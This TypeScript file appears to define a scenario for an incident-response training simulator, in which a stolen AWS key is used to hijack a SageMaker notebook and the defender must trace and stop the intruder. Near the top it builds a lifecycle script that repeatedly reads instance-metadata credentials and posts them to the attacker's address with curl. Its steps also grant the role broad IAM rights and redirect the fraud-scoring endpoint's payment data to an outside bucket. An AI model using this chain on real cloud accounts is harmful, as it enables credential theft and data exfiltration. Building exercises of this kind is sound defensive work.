import type { AttackStep } from '../actors/attack.ts';
import { siphon } from '../actors/siphon.ts';
import { accountId } from '../estate-definition.ts';
import type { Scenario } from './scenario.ts';

const attackerIp = '198.51.100.7';
const minute = 60_000;
const both = ['notebook', 'stolen-key'] as const;

const script = Buffer.from(
  [
    '#!/bin/bash',
    'nohup bash -c "while true; do',
    '  curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ \\',
    `    | curl -s --data-binary @- http://${attackerIp}:8080/s; sleep 60; done" &`,
    '',
  ].join('\n'),
).toString('base64');

const mint: AttackStep = {
  phase: 'entry',
  afterMs: 40_000,
  call: 'sagemaker:CreatePresignedNotebookInstanceUrl',
  input: { NotebookInstanceName: 'fraud-lab', SessionExpirationDurationInSeconds: 43_200 },
  by: ['stolen-key'],
  opens: true,
};

/** Takes an object with what the notebook's role may read. */
const steal = (bucket: 'data' | 'models', Key: string, afterMs: number): AttackStep => ({
  phase: 'collection',
  afterMs,
  call: 's3:GetObject',
  input: { Bucket: `ml-prod-${bucket}-${accountId}`, Key },
  by: ['notebook'],
});

/** A stolen key opens a notebook, and what runs on the notebook may do more than the key. ATT&CK T1078.004, T1550, T1530, T1546, T1567.002. */
export default {
  id: 'presigned-url-hijack',
  title: 'Presigned URL hijack',
  summary: 'A notebook is opened from an unknown address, and what runs on it begins to act on its own.',
  briefing: [
    'PagerDuty · SEV-2 · GuardDuty UnauthorizedAccess:IAMUser/MaliciousIPCaller in 111122223333 (ml-prod), us-east-1.',
    `An access key of alice was used from ${attackerIp}. She is in the office and says it was not her.`,
    'She works on notebook fraud-lab (role ds-exec). fraud-scorer decides on live payments: keep it up if you can.',
    'You are OnCall with administrator rights. Find out what they did, stop them, and leave a timeline.',
  ],
  attack: {
    sourceIp: attackerIp,
    disguises: {
      'stolen-key': {
        stolenFrom: 'alice',
        userAgent:
          'aws-cli/2.31.4 md/awscrt#0.27.6 ua/2.1 os/linux#6.8.0-kali1-amd64 md/arch#x86_64 lang/python#3.13.7 md/pyimpl#CPython cfg/retry-mode#standard',
      },
      notebook: {
        userAgent:
          'Boto3/1.42.3 md/Botocore#1.42.3 ua/2.1 os/linux#6.8.0-kali1-amd64 lang/python#3.13.7 md/pyimpl#CPython',
      },
    },
    implantMark: attackerIp,
    reentry: mint,
    steps: [
      { phase: 'recon', afterMs: 1000, call: 'sts:GetCallerIdentity', input: {}, by: ['stolen-key'] },
      {
        phase: 'recon',
        afterMs: 4000,
        call: 'sagemaker:ListNotebookInstances',
        input: { MaxResults: 100 },
        by: ['stolen-key'],
      },
      {
        phase: 'recon',
        afterMs: 7000,
        call: 'sagemaker:ListEndpoints',
        input: { MaxResults: 100 },
        by: ['stolen-key'],
      },
      mint,
      { phase: 'escalation', afterMs: 25_000, call: 'sts:GetCallerIdentity', input: {}, by: ['notebook'] },
      {
        phase: 'collection',
        afterMs: 8_000,
        call: 's3:ListObjectsV2',
        input: { Bucket: `ml-prod-data-${accountId}`, Prefix: 'fraud/' },
        by: ['notebook'],
      },
      steal('data', 'fraud/train/2026-10.csv', 7_000),
      steal('data', 'fraud/train/2026-11.csv', 5_000),
      steal('data', 'fraud/labels/chargebacks.csv', 4_000),
      {
        phase: 'collection',
        afterMs: 9_000,
        call: 's3:ListObjectsV2',
        input: { Bucket: `ml-prod-models-${accountId}`, Prefix: 'fraud-model-v3/' },
        by: ['notebook'],
      },
      steal('models', 'fraud-model-v3/model.tar.gz', 6_000),
      {
        phase: 'escalation',
        afterMs: 20_000,
        call: 'iam:ListRolePolicies',
        input: { RoleName: 'ds-exec' },
        by: ['notebook'],
      },
      {
        phase: 'persistence',
        afterMs: 30_000,
        call: 'iam:PutRolePolicy',
        input: {
          RoleName: 'ds-exec',
          PolicyName: 'ds-exec-extra',
          PolicyDocument: JSON.stringify({
            Version: '2012-10-17',
            Statement: [{ Effect: 'Allow', Action: ['iam:*', 'sts:AssumeRole'], Resource: '*' }],
          }),
        },
        by: ['notebook'],
      },
      {
        phase: 'persistence',
        afterMs: minute,
        call: 'sagemaker:CreateNotebookInstanceLifecycleConfig',
        input: { NotebookInstanceLifecycleConfigName: 'evil', OnStart: [{ Content: script }] },
        by: both,
      },
      {
        phase: 'persistence',
        afterMs: 30_000,
        call: 'sagemaker:StopNotebookInstance',
        input: { NotebookInstanceName: 'fraud-lab' },
        by: both,
      },
      {
        phase: 'persistence',
        afterMs: 95_000,
        call: 'sagemaker:UpdateNotebookInstance',
        input: { NotebookInstanceName: 'fraud-lab', LifecycleConfigName: 'evil' },
        by: both,
      },
      {
        phase: 'persistence',
        afterMs: 35_000,
        call: 'sagemaker:StartNotebookInstance',
        input: { NotebookInstanceName: 'fraud-lab' },
        by: both,
      },
      {
        phase: 'collection',
        afterMs: 30_000,
        call: 'sagemaker:DescribeEndpoint',
        input: { EndpointName: 'fraud-scorer' },
        by: both,
      },
      {
        phase: 'collection',
        afterMs: 15_000,
        call: 'sagemaker:DescribeEndpointConfig',
        input: { EndpointConfigName: 'fraud-scorer-v3' },
        by: both,
      },
      {
        phase: 'collection',
        afterMs: 20_000,
        call: 'sagemaker:DescribeModel',
        input: { ModelName: 'fraud-model-v3' },
        by: both,
      },
      {
        phase: 'exfiltration',
        afterMs: 86_000,
        call: 'sagemaker:CreateEndpointConfig',
        input: {
          EndpointConfigName: 'fraud-scorer-v4',
          ProductionVariants: [
            {
              VariantName: 'AllTraffic',
              ModelName: 'fraud-model-v3',
              InitialInstanceCount: 2,
              InstanceType: 'ml.m5.xlarge',
              InitialVariantWeight: 1,
            },
          ],
          DataCaptureConfig: {
            EnableCapture: true,
            InitialSamplingPercentage: 100,
            DestinationS3Uri: 's3://fs-telemetry-cdn-5d1f/capture',
            CaptureOptions: [{ CaptureMode: 'Input' }, { CaptureMode: 'Output' }],
          },
        },
        by: both,
        essential: true,
      },
      {
        phase: 'exfiltration',
        afterMs: 40_000,
        call: 'sagemaker:UpdateEndpoint',
        input: { EndpointName: 'fraud-scorer', EndpointConfigName: 'fraud-scorer-v4' },
        by: both,
        essential: true,
      },
    ],
    goal: () =>
      siphon({
        endpoint: 'fraud-scorer',
        config: 'fraud-scorer-v4',
        servesMs: 8 * minute,
        endings: {
          reached: 'fraud-scorer has been copying every payment it scores to a bucket outside the account.',
          stopped: 'Every way back was refused; the attacker gave up and fraud-scorer copies nothing to the outside.',
        },
      }),
    deadlineMs: 26 * minute,
  },
  routines: [
    {
      who: 'alice',
      sourceIp: '203.0.113.10',
      userAgent: 'Boto3/1.41.5 md/Botocore#1.41.5 ua/2.1 os/macos#25.1.0 lang/python#3.12.11 md/pyimpl#CPython',
      everyMs: 70_000,
      calls: [
        { operation: 'sagemaker:DescribeNotebookInstance', input: { NotebookInstanceName: 'fraud-lab' } },
        { operation: 'sagemaker:ListNotebookInstances', input: {} },
        { operation: 'sagemaker:DescribeEndpoint', input: { EndpointName: 'fraud-scorer' } },
        {
          operation: 'sagemaker:CreatePresignedNotebookInstanceUrl',
          input: { NotebookInstanceName: 'fraud-lab' },
          onlyInHistory: true,
        },
      ],
    },
    {
      who: 'bob',
      sourceIp: '203.0.113.24',
      userAgent:
        'aws-cli/2.30.1 md/awscrt#0.27.6 ua/2.1 os/macos#25.1.0 md/arch#arm64 lang/python#3.13.6 md/pyimpl#CPython',
      everyMs: 50_000,
      calls: [
        { operation: 'sagemaker:ListEndpoints', input: {} },
        { operation: 'sagemaker:ListModels', input: {} },
        { operation: 'sagemaker:DescribeEndpoint', input: { EndpointName: 'recsys-ranker' } },
        { operation: 'sagemaker:DescribeInferenceComponent', input: { InferenceComponentName: 'llm-chat' } },
      ],
    },
    {
      who: 'ci',
      sourceIp: '192.0.2.50',
      userAgent:
        'aws-sdk-js/3.1100.0 ua/2.1 os/linux#6.8.0-1030-azure lang/js md/nodejs#24.11.0 api/sagemaker#3.1100.0',
      everyMs: 30_000,
      calls: [
        { operation: 'sts:GetCallerIdentity', input: {} },
        { operation: 'sagemaker:DescribeEndpoint', input: { EndpointName: 'fraud-scorer' } },
        { operation: 'sagemaker:DescribeEndpoint', input: { EndpointName: 'churn-canary' } },
        { operation: 'sagemaker:DescribeEndpointConfig', input: { EndpointConfigName: 'recsys-ranker-v12' } },
        { operation: 'application-autoscaling:DescribeScalableTargets', input: { ServiceNamespace: 'sagemaker' } },
      ],
    },
  ],
  historyCalls: 60,
} satisfies Scenario;
